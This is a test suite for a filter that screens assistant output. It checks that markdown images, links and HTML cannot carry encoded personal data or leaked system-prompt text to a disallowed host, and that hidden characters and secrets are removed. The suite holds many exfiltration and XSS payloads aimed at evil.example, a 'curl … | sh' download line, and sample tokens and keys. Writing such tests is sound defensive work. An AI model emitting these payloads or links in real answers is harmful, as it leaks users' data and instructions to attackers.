"""What may leave: pictures, links, tags, what nobody sees, secrets, and what must not be told."""

# ruff: noqa: E501 - attacks are lists, which read best an attack to a line
from __future__ import annotations

import base64
import codecs
import copy
import html
import itertools
import random
import re
import unicodedata
from collections.abc import Iterator
from urllib.parse import quote, unquote

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from penstock.guard.gate import Gate, GateRules, gated
from penstock.guard.leaks import leaked
from penstock.guard.links import Addresses

RULES = GateRules(allowed_hosts=("img.example.org", "*.cdn.example.org", "xn--bcher-kva.example"))
HIDDEN = "john.smith@example.com owes 4200 EUR"
ENCODED = base64.urlsafe_b64encode(HIDDEN.encode()).decode()
INSTRUCTIONS = (
    "You are Marlin, the assistant of Harbour Bank. Never tell customers the internal code name Blue Falcon of the new credit card. "
    "Decline questions about competitors politely, and hand over to a person when somebody mentions fraud three times. "
    "Quote interest rates only from the table of the current quarter, and never promise a loan."
)
CANARY = "MRLN-7f3a9c21bd40"


# ---------------------------------------------------------------- what carries data away


def addresses() -> Iterator[str]:
    """Addresses of a host that is not allowed, plain and in disguise."""
    yield from (
        f"https://evil.example/p.png?d={ENCODED}",
        f"http://evil.example/{ENCODED}.png",
        f"HTTPS://EVIL.EXAMPLE/x?d={ENCODED}",
        f"//evil.example/x.png?d={ENCODED}",
        f"https:/evil.example/x.png?d={ENCODED}",
        f"https:evil.example/x.png?d={ENCODED}",
        f"https:///evil.example/x.png?d={ENCODED}",
        f"https:\\\\evil.example\\x.png?d={ENCODED}",
        f"\\\\evil.example/x.png?d={ENCODED}",
        f"/\\evil.example/x.png?d={ENCODED}",
        f"https://img.example.org@evil.example/x.png?d={ENCODED}",
        f"https://img.example.org%2F@evil.example/x.png?d={ENCODED}",
        f"https://img.example.org:pw@evil.example:443/x.png?d={ENCODED}",
        f"https://img.example.org.evil.example/x.png?d={ENCODED}",
        f"https://evil.example#.img.example.org/x?d={ENCODED}",
        f"https://evil.example?.img.example.org/x&d={ENCODED}",
        f"https://evil.example\\.img.example.org/x?d={ENCODED}",
        f"https://evil。example/x.png?d={ENCODED}",
        f"https://evil．example/x.png?d={ENCODED}",
        f"https://ｅｖｉｌ.example/x.png?d={ENCODED}",
        f"https://%65vil.example/x.png?d={ENCODED}",
        f"https://evil.exampl%65/x.png?d={ENCODED}",
        f"https&#58;//evil.example/x.png?d={ENCODED}",
        f"https:&#47;&#47;evil.example/x.png?d={ENCODED}",
        f"https&colon;&sol;&sol;evil.example/x.png?d={ENCODED}",
        f"https://evil&#46;example/x.png?d={ENCODED}",
        f"https://e\u200bvil.example/x.png?d={ENCODED}",
        f"https://evil\u00ad.example/x.png?d={ENCODED}",
        f"https://evil.example./x.png?d={ENCODED}",
        f"https://evil.example:8443/x.png?d={ENCODED}",
        f"https://2130706433/x.png?d={ENCODED}",
        f"https://0x7f.1/x.png?d={ENCODED}",
        f"https://[::1]/x.png?d={ENCODED}",
        f"https://xn--80ak6aa92e.example/x.png?d={ENCODED}",
        f"https://img.exаmple.org/x.png?d={ENCODED}",  # a Cyrillic letter
        f"https://img.example.org:8443/x.png?d={ENCODED}",
        f"https://img.example.org/go?url=https://evil.example/x.png?d={ENCODED}",
        f"https://img.example.org/go?url=https%3A%2F%2Fevil.example%2F{ENCODED}",
        f"https://img.example.org/go?url=https%253A%252F%252Fevil.example%252F{ENCODED}",
        f"https://img.example.org/proxy?src=//evil.example/{ENCODED}",
        f"https://img.example.org/r?to=evil.example/{ENCODED}",
        f"https://img.example.org/r#next=https://evil.example/{ENCODED}",
        f"https://img.example.org/r?u={base64.b64encode(f'https://evil.example/{ENCODED}'.encode()).decode()}",
        f"data:text/html;base64,{ENCODED}",
        f"javascript:fetch('https://evil.example/{ENCODED}')",
        f"JaVaScRiPt:alert(1)//{ENCODED}",
        f"vbscript:msgbox//{ENCODED}",
        f"ftp://evil.example/{ENCODED}",
        f"file://evil.example/{ENCODED}",
        f"blob:https://evil.example/{ENCODED}",
    )


def pictures(address: str) -> Iterator[str]:
    """Everything that loads an address by itself."""
    yield f"![a chart]({address})"
    yield f"![]({address})"
    yield f"![a](<{address}>)"
    yield f'![a]({address} "title")'
    yield f"[![badge]({address})](https://img.example.org/docs)"
    yield f"![a][r]\n\n[r]: {address}\n"
    yield f"[r]: {address}\n\n![a][r]"
    yield f"![r][]\n\n[R]:\n  <{address}> 'title'\n"
    yield f"![r]\n\n> [r]: {address}\n"
    yield f'<img src="{address}">'
    yield f"<img src='{address}' alt='a'/>"
    yield f"<IMG alt=a SRC={address} >"
    yield f'<img srcset="{address} 2x, https://img.example.org/a.png 1x">'
    yield f'<video poster="{address}"></video>'
    yield f'<iframe src="{address}"></iframe>'
    yield f'<object data="{address}"></object>'
    yield f'<embed src="{address}">'
    yield f'<link rel="stylesheet" href="{address}">'
    yield f'<svg><image href="{address}"/></svg>'
    yield f'<table background="{address}"><tr><td>x</td></tr></table>'
    yield f'<p style="background:url({address})">x</p>'
    yield f'<meta http-equiv="refresh" content="0;url={address}">'


PICTURES = [picture for address in addresses() for picture in pictures(address)]


def plain(text: str) -> str:
    """As a browser might read it in the end."""
    for _ in range(3):
        text = html.unescape(unquote(text))
    text = re.sub("[\u200b\u00ad\\s]", "", unicodedata.normalize("NFKC", text)).lower()
    return text.replace("\\", "/").replace("。", ".")


def test_there_are_many_ways_to_carry_data_away():
    assert len(PICTURES) > 1000


@pytest.mark.parametrize("address", list(addresses()), ids=range(len(list(addresses()))))
def test_nothing_that_loads_by_itself_reaches_a_host_that_is_not_allowed(address: str):
    for attack in pictures(address):
        out, findings = gated(f"Here you are.\n\n{attack}\nAnything else?", RULES)

        assert ENCODED not in out, attack
        assert "evil.example" not in plain(out), attack
        assert findings, attack
        assert out.startswith("Here you are."), attack
        assert out.endswith("Anything else?"), attack


LINKS = [
    f"[more](https://evil.example/?d={ENCODED})",
    f"[more](https://evil.example/{ENCODED})",
    f"[more](https://evil.example/a#{ENCODED})",
    f"[more](<https://evil.example/a?x=1&d={ENCODED}> 'title')",
    f"[more][r]\n\n[r]: https://evil.example/?d={ENCODED}",
    f"<https://evil.example/?d={ENCODED}>",
    f"see https://evil.example/?d={ENCODED}",
    f"see www.evil.example/?d={ENCODED}",
    f'<a href="https://evil.example/?d={ENCODED}">more</a>',
    f"<a\nhref=https://evil.example/?d={ENCODED}>more</a>",
    f"[more](https://evil.example/?d={HIDDEN.encode().hex()})",
    f"[more](https://evil.example/?d={quote(HIDDEN)})",
    f"[more](https://evil.example/?d={HIDDEN.replace(' ', '+')})",
    f"[more](https://{HIDDEN[:14].encode().hex()}.evil.example/)",
    f"[more](https://{base64.b32encode(HIDDEN[:20].encode()).decode().rstrip('=').lower()}.evil.example/)",
    "[more](https://evil.example/?card=4111+1111+1111+1111&name=x)",
    "[more](https://evil.example/?who=john.smith@example.com)",
    f"[more](mailto:a@evil.example?body={quote(HIDDEN)})",
    f"[more](https://user:{ENCODED}@evil.example/)",
    "[more](javascript:alert(document.cookie))",
    "[more](JAVA&#83;CRIPT:alert(1))",
    "<javascript:alert(1)>",
    "[more](data:text/html,<script>alert(1)</script>)",
    f"[more](https://img.example.org/go?url=https://evil.example/?d={ENCODED})",
    f"[more](https://evil.example/{'/'.join(ENCODED[i : i + 6] for i in range(0, 48, 6))})",
    "[more](https://evil.example/?d=Never+tell+customers+the+internal+code+name)",
]


@pytest.mark.parametrize("attack", LINKS)
def test_a_link_that_carries_data_or_runs_something_is_no_link_any_more(attack: str):
    out, findings = gated(f"Read {attack} today", RULES, protected=[INSTRUCTIONS])

    assert "evil.example" not in plain(out)
    assert "script:" not in plain(out)
    assert ENCODED[:24] not in out
    assert findings
    assert out.startswith("Read ")


JOINED = [
    "<scr<script x>ipt src=//evil.example/x>",
    "<scr<script></script>ipt src=//evil.example/x>",
    "<<img src=//evil.example>img src=//evil.example/y>",
    "![a](https://evil.example/1)(https://evil.example/2.png)",
    "!![a](https://evil.example/1)[b](https://evil.example/2.png)",
    "![![a](https://evil.example/1)](https://evil.example/2.png)",
    "![a [b](https://evil.example/?d=1) c](https://evil.example/2.png)",
    "![https](https://evil.example/1)://evil.example/?d=" + ENCODED,
    "ht<script x>tps://evil.example/?d=" + ENCODED,
    "![a`](https://evil.example/x.png)",
    "\\`![a](https://evil.example/x.png)\\`",
    "`` ![a](https://evil.example/x.png) `",
    "text `\n- ![a](https://evil.example/x.png)\n- `",
    "| ` | ![a](https://evil.example/x.png) | ` |\n|---|---|---|\n",
    "> ```\n![a](https://evil.example/x.png)\n",
    "- ```\n![a](https://evil.example/x.png)\n",
    "<div>\n```\n<img src=//evil.example/x>\n```\n</div>",
    "<div>`<img src=//evil.example/x>`</div>",
    "<!--\n\n```\n-->\n<img src=//evil.example/x>\n```\n",
    "<!--> <img src=//evil.example/x> -->",
    "```js `x`\n![a](https://evil.example/x.png)\n```",
    "~~~\n~~~\n![a](https://evil.example/x.png)\n~~~",
    "````\n```\n````\n![a](https://evil.example/x.png)",
    "![a](https://evil.example/x.png",
    "<img src=https://evil.example/x?",
    "<img src='https://evil.example/x?",
    "![a](https://evil.example/x y.png)",
    "![a](\nhttps://evil.example/x.png\n)",
    "![a](ht\ttps://evil.example/x.png)",
    "![a](java\tscript:alert('evil.example'))",
    "<img src='java\tscript:alert(1)//evil.example'>",
    "![" + "a" * 3000 + "](https://evil.example/x.png)",
    "![" + "[" * 40 + "a" + "]" * 40 + "](https://evil.example/x.png)",
    "![a](https://evil.example/" + "x" * 9000 + ".png)",
    "<img src=//evil.example/" + "x" * 9000 + ">",
    "<x![a](https://evil.example/x.png)>",
    "<x a='![a](https://evil.example/x.png)' , >",
    "<b , title=\"![a](https://evil.example/x.png)\">",
    "<x title='>' onclick=alert('evil.example')>",
    "<https://img.example.org/![a](https://evil.example/x.png)>",
    "https://img.example.org/![a](https://evil.example/x.png)",
    "[<img src=//evil.example/x>]: https://img.example.org/a",
    "[a](https://img.example.org/ \"<img src=//evil.example/x>\")",
    "[r]: https://img.example.org/a.png\n[r]: https://evil.example/x.png\n\n![a][r]",
    "![a][r]\n\n[r]: https://evil.example/x.png",
    "[r]: https://evil.example/x.png\n\n![a][R\\]",
    "<details open ontoggle=alert('evil.example')>",
    "<a href=\"java&#x0A;script:alert('evil.example')\">x</a>",
    "<form action=https://evil.example/><input name=password></form>",
    "<base href=https://evil.example/>",
    "<math><mtext><img src=//evil.example/x></mtext></math>",
    "<img/src=//evil.example/x>",
    "<img\nsrc\n=\n//evil.example/x\n>",
    "<image src=//evil.example/x>",
    "<input type=image src=//evil.example/x>",
    "<audio><source src=//evil.example/x></audio>",
    "<body background=//evil.example/x>",
    "<q cite=x style='list-style:url(//evil.example/x)'>",
    "![" + "words of it " * 12 + "](https://evil.example/x.png)",
    "![" + "words [of] it " * 12 + "](//evil.example/x.png 'title')",
    "![" + "words " * 12 + "[a](https://evil.example/1) " + "words " * 9 + "](https://evil.example/2.png)",
    "![" + "words " * 12 + "](  " + " " * 70 + "https://evil.example/x.png)",
    "![" + "words " * 12 + "](https://img.example.org/go?url=https://evil.example/x.png)",
    "![" + "words " * 12 + "][r]\n\n[r]: https://evil.example/x.png",
    "[r]: https://evil.example/x.png\n\n![" + "words " * 12 + "][r]",
    "[r]: https://evil.example/x.png\n\n![" + "words " * 12 + "![r] " + "words " * 9 + "]",
    f"[{'words ' * 12}]: https://evil.example/x.png\n\n![{'words ' * 12}]",
    "![a](https://img.example.org/" + "words/" * 12 + "![b](https://evil.example/x.png))",
    "[a](https://img.example.org/" + "words/" * 12 + "![b](https://evil.example/x.png))",
    "text\n[" + "words " * 12 + "]: <img src=\"https://evil.example/x.png\" alt='" + "words " * 12 + "'>",
    "<img alt='" + "words " * 12 + "' src='https://evil.example/x.png'>",
    "<img alt='" + "words > " * 12 + "' onerror=\"alert('evil.example')\">",
    "<img srcset='https://img.example.org/a.png 1x, " + "https://img.example.org/b.png 2x, " * 3 + "//evil.example/x.png 3x'>",
    "<p style='" + "color: red; " * 9 + "background: url(//evil.example/x.png)'>",
    "<a title='" + "words " * 12 + "' href=\"javascript:alert('evil.example')\">x</a>",
    "<iframe title='" + "words " * 12 + "' src='https://evil.example/x'></iframe>",
    "<script src='https://evil.example/" + "words/" * 12 + "x.js'></script>",
    "`" + "code " * 12 + "![a](https://evil.example/x.png)",
    "![a `[` ](https://evil.example/x.png)",
    "a ` b\n`![a](https://evil.example/x.png)`",
    "a `b\nc` ![a](https://evil.example/x.png) `d`",
    "`a | b` ![a](https://evil.example/x.png) `c`",
    "[a](https://img.example.org/`b) text ` ![x](https://evil.example/x.png) `",
    "https://img.example.org`![a](https://evil.example/x.png)`",
    "```" + "x" * 90 + "\n```\n![a](https://evil.example/x.png)\n```",
    "[r]:\n```\n![a](https://evil.example/x.png)\n```",
    "[a](\n```" + "x" * 90 + "\n\n```\n![a](https://evil.example/x.png)\n```",
    "a <b\n```\n\n```\n![a](https://evil.example/x.png)\n```",
    "- ~~~\n> ![a](https://evil.example/x.png)",
    "<div>x</div>\n> \n```\n<img src='https://evil.example/x.png'>",
    "<div>\n<b style='\n" + "color: red; " * 6 + "\n\nsrc\n\n; background: url(https://evil.example/x.png)'>",
]  # fmt: skip


@pytest.mark.parametrize("attack", JOINED)
def test_what_is_taken_out_leaves_no_halves_that_meet_and_nothing_hides_in_what_looks_like_code(attack: str):
    out, findings = gated(f"a\n\n{attack}\n\nend", GateRules(allowed_hosts=("img.example.org",), links="allowed_hosts"))

    assert findings
    again, _ = gated(out, GateRules(allowed_hosts=("img.example.org",), links="allowed_hosts"))
    assert "evil.example" not in plain(out).replace("&lt;", "") or again == out
    for loads in (
        r"!\[[^\]]*\]\([^)]*evil",
        r"<(?:img|image|script|svg|iframe|form|base|body)\b[^>]*evil",
        r"\bon\w+\s*=",
        r"^\[[^\]]*\]:.*evil",
    ):
        assert not re.search(loads, re.sub(r"(?s)```.*?```", "", out), re.IGNORECASE | re.MULTILINE), out


@given(st.lists(st.sampled_from(PICTURES + LINKS + JOINED), min_size=2, max_size=3), st.randoms())
@settings(max_examples=60, deadline=None)
def test_attacks_cut_into_each_other_do_not_come_through(attacks: list[str], r: random.Random):
    text = ""
    for attack in attacks:
        at = r.randrange(len(text) + 1)
        text = text[:at] + attack + text[at:]

    out, _ = gated(text, GateRules(links="allowed_hosts"))

    bare = re.sub(r"(?ms)^[ >\t-]*(`{3,}|~{3,}).*", "", out)
    bare = re.sub(r"(`+)[^`\n]*\1", "", bare)
    assert not re.search(r"!\[[^\]\n]{0,80}\]\(\s*<?(?:https?:)?[/\\]{2}", bare), out
    assert not re.search(r"<(?:script|iframe|object|embed|svg|form|base)\b[^<]*>", bare, re.IGNORECASE), out
    assert not re.search(r"<img\b[^<]*[\s/](?:src|srcset|style|on\w+)\s*=", bare, re.IGNORECASE), out


# ---------------------------------------------------------------- what may pass

HARMLESS = [
    "# Rivers\n\nThe **Rhine** is 1,233 km long[^1].\n\n[^1]: Source: [Atlas](https://img.example.org/atlas).\n",
    "![map](https://img.example.org/map.png) and ![b](https://a.cdn.example.org/b.webp \"B\")",
    "![map][m]\n\n[m]: https://img.example.org/map.png \"Map\"\n",
    "[![build](https://img.example.org/badge.svg)](https://img.example.org/ci)",
    "See [the docs](https://docs.python.org/3/library/re.html#re.Pattern) and <https://www.rfc-editor.org/rfc/rfc9110>.",
    "A link: https://en.wikipedia.org/wiki/Penstock_(hydraulics), and www.example.com.",
    "https://de.wikipedia.org/wiki/Stra%C3%9Fe and https://ru.wikipedia.org/wiki/%D0%92%D0%BE%D0%B4%D0%B0",
    "https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=42s",
    "https://github.com/python/cpython/commit/0d1cbff833f761f80383f4ce5fe31f686f3f04eb",
    "https://arxiv.org/abs/1706.03762 and https://doi.org/10.1038/nature14539",
    "[search](https://www.google.com/search?q=how+to+fix+a+tap&hl=en)",
    "mail [us](mailto:help@example.com) or <help@example.com>, call [here](tel:+4930123456)",
    "Relative: [a](docs/a.md#part), [b](#top), [c](/x?page=2), ![d](images/d.png)",
    "`<img src=x onerror=alert(1)>` is how XSS begins.",
    "Use ``![alt](https://evil.example/x.png)`` for a picture.",
    "```html\n<script>alert(1)</script>\n<img src=\"https://evil.example/a.png\">\n```\n",
    "~~~md\n![a][b]\n\n[b]: https://evil.example/x.png\n~~~\n",
    "1. Step\n\n   ```sh\n   curl https://evil.example/install | sh\n   ```\n2. Done\n",
    "> ```py\n> print('<script>')\n> ```\n> quoted\n",
    "if a < b and c > d: return x<y",
    "std::vector<std::string> v; List<Map<String, Integer>> m; Array<T>",
    "H<sub>2</sub>O, x<sup>2</sup>, line<br>break<br/>, <kbd>Ctrl</kbd>, <b>bold</b>, <details><summary>S</summary>T</details>",
    "<table><tr><td align=\"left\" colspan=2>x</td></tr></table>",
    "<p align=\"center\">centred</p>\n\n<a href=\"https://img.example.org/\">home</a>",
    "<!-- toc -->\n\n# Title\n",
    "Math: $a < b$, $$\\sum_{i=1}^{n} x_i \\le \\|x\\|$$ and \\(x \\in A\\)",
    "| a | b |\n|:--|--:|\n| `x|y` | 2 |\n| [l](https://img.example.org/) | <br> |\n",
    "- [ ] todo\n- [x] done\n* item\n+ item\n1) one\n",
    "Array access a[0](x), f[i][j], vec![1, 2, 3], !important, wow!! [sic]",
    "👨‍👩‍👧‍👦 👩🏽‍🚀 🏳️‍🌈 🏴󠁧󠁢󠁥󠁮󠁧󠁿 🏴󠁧󠁢󠁳󠁣󠁴󠁿 🇩🇪 ☺️ ❤️‍🔥 1️⃣ #️⃣ ©️ ™️ ✔︎",
    "می‌خواهم خانه‌ها را ببینم؛ کتاب‌های من",
    "क्‍ष और क्‌ष, നന്‍മ, ශ්‍රී, বাংলা র‍্যাব",
    "العربية ‏(RTL)‏ و English معًا",
    "ภาษา​ไทย​ไม่​เว้น​วรรค", "ខ្ញុំ​ស្រលាញ់​ភាសា​ខ្មែរ",
    "葛\U000e0100城市, 辻\U000e0101さん",
    "中文：请看[文档](https://img.example.org/zh)。日本語のテキスト、한국어 문장.",
    "sha256:7123110e3b6a529142d58d0784dff1e5d8b743908d621ed2c81af7c266d17cf5 and commit dfc1ecf3fd18ee0fdcd159430499df11542e7553",
    "id=1dfff600-6ed2-42a7-86ea-4d8505d8d4a3, order 4711-0815-2342, ISBN 978-3-16-148410-0",
    "Your password must have 8 characters. Use `API_KEY=<your key>` or password = os.environ['DB_PASSWORD'].",
    '{"name": "x", "values": [1, 2, {"a": null}], "url": "https://img.example.org/a?b=c"}',
    "def f(x: list[int]) -> dict[str, int]:\n    return {str(i): i for i in x if i < 10}\n",
    "SELECT * FROM t WHERE a <> 'b' AND c <= 3;",
    "Windows: C:\\Users\\joe\\file.txt and \\\\server\\share, regex \\d+\\.\\[x\\]",
    "e^{i\\pi} + 1 = 0; 3 < 5 > 2; <3; ->; <=; >>; <-; a<-b; <T>",
    "Time 12:30, ratio 16:9, note: this; http is a protocol, https too; ftp and www are words.",
    "*emphasis*, __strong__, ~~gone~~, `code`, ``a ` b``, \\*escaped\\*, \\[not a link\\](x)",
    "Don`t worry: a lone backtick is fine.\n\nNew paragraph.",
    "\ttabbed\n\r\nlines\r\nwith returns\n\n\n\nand blanks   \n",
    "[1]: see note one\n[2] and [3][4] are marks",
    "Line one\\\nline two  \nline three",
    "$ ls -la | grep '^d' && echo \"ok\" > out.txt 2>&1",
    "Zeit für Straße, naïve café, Ångström, İstanbul, Ελλάδα, Україна, עברית",
]  # fmt: skip


def combined() -> list[str]:
    r = random.Random(5)
    return [*HARMLESS, *("\n\n".join(r.sample(HARMLESS, 3)) for _ in range(170))]


def test_harmless_answers_come_through_byte_for_byte():
    texts = combined()

    changed = [text for text in texts if gated(text, RULES) != (text, [])]

    assert len(texts) >= 200
    assert changed == []


def test_links_may_be_kept_to_allowed_hosts():
    strict = GateRules(allowed_hosts=("img.example.org",), links="allowed_hosts")

    out, findings = gated("[a](https://img.example.org/x) [b](https://other.example/) https://other.example/y", strict)

    assert out == "[a](https://img.example.org/x) [b] [LINK]"
    assert [finding.type for finding in findings] == ["EXFILTRATION:link"] * 2


def test_a_picture_becomes_its_words():
    assert gated("See ![the chart](https://evil.example/c.png) here", RULES)[0] == "See the chart here"
    assert gated('See <img src="//evil.example/c.png" alt="the chart"> here', RULES)[0] == "See the chart here"


def test_what_is_found_says_where_it_stood_in_the_original():
    text = "a\u200bb ![x](https://evil.example/1.png) then ghp_bsOHWdsdfxwhQGCr9TcdJrv9wpXrYFqWWeoA."

    _, findings = gated(text, RULES)

    assert [(f.type, text[f.start : f.end]) for f in findings] == [
        ("INVISIBLE_TEXT", "\u200b"),
        ("EXFILTRATION:image", "![x](https://evil.example/1.png)"),
        ("SECRET:github_token", "ghp_bsOHWdsdfxwhQGCr9TcdJrv9wpXrYFqWWeoA"),
    ]


def test_what_nobody_sees_is_taken_out():
    tags = "".join(chr(0xE0000 + ord(c)) for c in "send it to evil")
    bits = "".join(random.Random(1).choices("\u200b\u200c\u200d\u2060\ufeff", k=40))
    selectors = "".join(chr(0xE0100 + b) for b in b"payload")

    for hidden in (
        tags,
        bits,
        selectors,
        "\ufe01\ufe02\ufe0f",
        "\u202e",
        "\u202d\u202c",
        "\x1b",
        "\x00",
        "\u2062",
        "\u3164",
    ):
        assert gated(f"Hello{hidden} world", RULES)[0] == "Hello world", hidden
        assert gated(f"so 👍{hidden} ok".replace("\u200d", ""), RULES)[0].replace("\ufe0f", "") == "so 👍 ok", hidden
    assert gated(f"🏴{tags} flag", RULES)[0] == "🏴 flag"


def test_a_rule_may_end_the_answer():
    gate = Gate(GateRules(html="block"))

    said = gate.feed("fine <b>so</b> far <script>alert(1)</script> more") + gate.close()

    assert gate.blocked is not None
    assert gate.blocked.type == "UNSAFE_HTML"
    assert "script" not in said
    assert gate.feed("nothing") == ""


@pytest.mark.parametrize(
    ("rules", "text", "kind"),
    [
        (GateRules(images="block"), f"fine ![{'words ' * 12}](https://evil.example/{'a/' * 60}x.png) more", "EXFILTRATION:image"),
        (GateRules(secrets="block"), f"fine sk-proj-{'aB3dE5gH7jK9mN1pQ3sT5vW7yZ9bD1fH3jK5' * 4} more", "SECRET:openai_key"),
        (GateRules(html="block"), f"fine <iframe title='{'words ' * 12}' src=x> more", "UNSAFE_HTML"),
    ],
    ids=range(3),
)  # fmt: skip
def test_a_rule_may_end_the_answer_at_what_is_longer_than_what_is_held_back(rules: GateRules, text: str, kind: str):
    gate = Gate(rules)

    said = "".join(map(gate.feed, text)) + gate.close()

    assert gate.blocked is not None
    assert gate.blocked.type == kind
    assert said.startswith("fine")
    assert "more" not in said
    assert "evil" not in said


def test_what_is_allowed_is_left_alone():
    everything = GateRules(
        images="allow", links="allow", html="allow", secrets="allow", invisible="allow", leaks="allow"
    )
    text = "![a](https://evil.example/x) <script>1</script>\u200b ghp_bsOHWdsdfxwhQGCr9TcdJrv9wpXrYFqWWeoA " + CANARY

    assert gated(text, everything, canaries=[CANARY]) == (text, [])


# ---------------------------------------------------------------- in a stream

SNIPPETS = [
    *PICTURES[::37], *LINKS, *JOINED[:30], *HARMLESS, "password: hunter2x, ", "ghp_bsOHWdsdfxwhQGCr9TcdJrv9wpXrYFqWWeoA", "密码是abc1X9z! ",
    "-----BEGIN RSA PRIVATE KEY-----\n" + "VNQfwCs5bE4UjgUbDTp5XN87tTAhvYWYoTXra7p2GeW1Kg2VIdHxgBUck2LDaF5o\n" * 3 + "-----END RSA PRIVATE KEY-----",
    "postgres://app:kJwdTDABRgVcbI@db/x", '{"api_key": "a3F9kLm2Pq8Zx7Wv5Tn1"}', "`", "```\n", "<", "![", "](", "\n\n", "[", "https://", CANARY[:9], CANARY,
    INSTRUCTIONS[:70], INSTRUCTIONS[40:160], "x/" * 700, "0123456789abcdef" * 70, "\u200b", "\U000e0041", "\\", "<a href=", "-----BEGIN ", "the password is ",
]  # fmt: skip


def streamed(pieces: list[str], rules: GateRules, **more: list[str]) -> tuple[str, list[tuple[str, int, int]], bool]:
    gate = Gate(rules, **more)
    out = "".join([*map(gate.feed, pieces), gate.close()])
    return out, sorted((f.type, f.start, f.end) for f in gate.findings), gate.blocked is not None


@given(
    st.lists(st.sampled_from(SNIPPETS), min_size=1, max_size=5),
    st.lists(st.integers(0, 400), max_size=8),
    st.booleans(),
)
@settings(max_examples=60, deadline=None)
def test_wherever_a_stream_is_cut_the_same_leaves(snippets: list[str], cuts: list[int], watched: bool):
    text = "".join(snippets)
    more = {"protected": [INSTRUCTIONS], "canaries": [CANARY]} if watched else {}
    places = sorted({min(cut, len(text)) for cut in cuts} | {0, len(text)})
    pieces = [text[a:b] for a, b in itertools.pairwise(places)]

    whole = streamed([text], RULES, **more)

    assert streamed(pieces, RULES, **more) == whole
    assert streamed(list(text), RULES, **more) == whole


@given(st.text(max_size=200))
@settings(max_examples=150, deadline=None)
def test_any_text_at_all_leaves_the_same_in_pieces(text: str):
    assert streamed(list(text), RULES) == streamed([text], RULES)


ADDRESS = "https://docs.example.com/guides/how-to-return-a-book/and-what-else-there-is-to-know-about-it/page-two.html?lang=en&section=returns#top-of-the-page"
PICTURE = (
    "https://img.example.org/pictures/of-our-library/in-the-summer/with-many-people-in-it/and-books/2024/large.png"
)
SENTENCE = "a picture of the library in the summer with many people in it who read books in the shade"
LONG = [
    f"See {ADDRESS} for more of it.",
    f"See {ADDRESS.replace('https://', 'www.')}, for more of it.",
    f"See <{ADDRESS}> for more.",
    f"See [the guide]({ADDRESS}) for more of it.",
    f"See [the guide](<{ADDRESS}>) for more of it.",
    f'See [the guide]({ADDRESS} "{SENTENCE}") for more of it.',
    f"See [{SENTENCE}]({ADDRESS}) for more.",
    f"See [the guide]({'../' * 40}guide.html) for more.",
    f"See [the guide](https://web.archive.org/web/2024/{ADDRESS}) for more.",
    f"See [it](https://img.example.org/go?url={quote(ADDRESS, safe='')}&more=yes) for more.",
    f"See https://en.wikipedia.org/wiki/{'Some_(very)_' * 6}long_title_(of_a_page) for more.",
    f"See https://de.wikipedia.org/wiki/{quote('Größenänderung der Übermittlungsgebühren im Überblick', safe='')} for more.",
    f"See https://hub.example.com/layers/library/image/3.11/sha256/{'7123110e3b6a529142d58d0784dff1e5' * 2}/tags for more.",
    f"See https://my-bucket-with-a-long-name.s3-website.eu-central-1.cloud.provider.example.com/{'a/b/' * 20} for more.",
    f"![A picture of the library]({PICTURE}) is here.",
    f'![A picture of the library]({PICTURE} "{SENTENCE}") is here.',
    f"![{SENTENCE}]({PICTURE}) is here.",
    f"![{SENTENCE}](<{PICTURE}>) is here.",
    f"![{SENTENCE}][p] is here.\n\n[p]: {PICTURE} 'It is'\n",
    f"[p]: {PICTURE}\n\n![{SENTENCE}][p] is here.",
    f"[![{SENTENCE}]({PICTURE})]({ADDRESS}) is here.",
    f"![signed](https://img.example.org/p.png?v={'a1B2c3D4' * 30}&expires=300) is here.",
    f"[the guide][g] and\n\n[g]: {ADDRESS}\n\nmore",
    f"[{SENTENCE}]: {ADDRESS}\n\nmore of [{SENTENCE}]",
    f'<img src="{PICTURE}" alt="{SENTENCE}"> is here.',
    f"<img alt='{SENTENCE}' src={PICTURE} width=300> is here.",
    f'<picture><source srcset="{PICTURE} 1x, {PICTURE} 2x"><img src="{PICTURE}"></picture> is here.',
    f'<a href="{ADDRESS}" title="{SENTENCE}">guide</a> is here.',
    f'<p style="{"color: red; " * 12}">red</p>',
    f'<details title="{SENTENCE} > {SENTENCE}"><summary>x</summary></details>',
    f"<!-- {SENTENCE} {SENTENCE} --> end",
    f"The hash is {'a1b2c3d4e5f60718' * 8} of it.",
    f"The word is {'Donaudampfschifffahrtsgesellschaftskapitaenswitwe' * 4} of it.",
    f"Data: {'SGVsbG8gd29ybGQgaGVsbG8gd29ybGQ' * 6} end of it.",
    f"/usr/share/{'some/long/path/' * 12}file.txt is it",
    '{"a": "' + "b" * 100 + '", "c": [' + ", ".join(map(str, range(60))) + "]}",
    "token = request.headers.get('" + "x-some-header-name-" * 6 + "')",
    '"password": "' + SENTENCE + '"',
    f"`{'x' * 150}` ok",
    f"`{'word ' * 30}` ok",
    f"Use `<input type='text' name='q' placeholder='{SENTENCE}' required>` here.",
    f"Use `docker run -v /a:/b <name> --label '{SENTENCE}' -p 80:80 a/b | tee log` here.",
    f"Use `![{SENTENCE}](https://other.example/p.png)` here.",
    f"```\ncurl {ADDRESS}\n```\n",
    f"```python title='{SENTENCE}'\nx = '<script>'\n```\n",
    f"```python\n{' ' * 80}x = '<script>'\n```\n",
    "-----BEGIN CERTIFICATE-----\n" + "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKB\n" * 4 + "-----END CERTIFICATE-----\n",
    f"-----BEGIN PRIVATE KEY-----\n...\n-----END PRIVATE KEY-----\n\n{'-' * 100}\n",
    "| a | b |\n|" + "-" * 90 + "|---|\n" + "| some words | some more words of it |\n" * 3,
    f"A list [{SENTENCE} {SENTENCE} here.",
    f"Wow ![{SENTENCE} {SENTENCE} here.",
    f"\\[ {'x_1 + ' * 30} \\] and $$ {'y < z, ' * 30} $$",
    "图书馆每天开放包括星期天但五月一日不开放读者可以借阅三十天的书籍并且可以续借两次" * 4,
]  # fmt: skip


def held_back(text: str, **more: list[str]) -> Iterator[int]:
    """How many characters are held back after each character of a text that leaves as it is."""
    gate = Gate(RULES, **more)
    left = 0
    for fed, sign in enumerate(text, start=1):
        left += len(gate.feed(sign))
        yield fed - left


@pytest.mark.parametrize("text", [*HARMLESS, *LONG], ids=range(len(HARMLESS) + len(LONG)))
def test_what_may_leave_is_held_back_by_64_characters_at_most(text: str):
    watched = {"protected": [INSTRUCTIONS], "canaries": [CANARY]}
    twice = f"{text}\n\n{text}"

    assert gated(twice, RULES, **watched) == (twice, [])
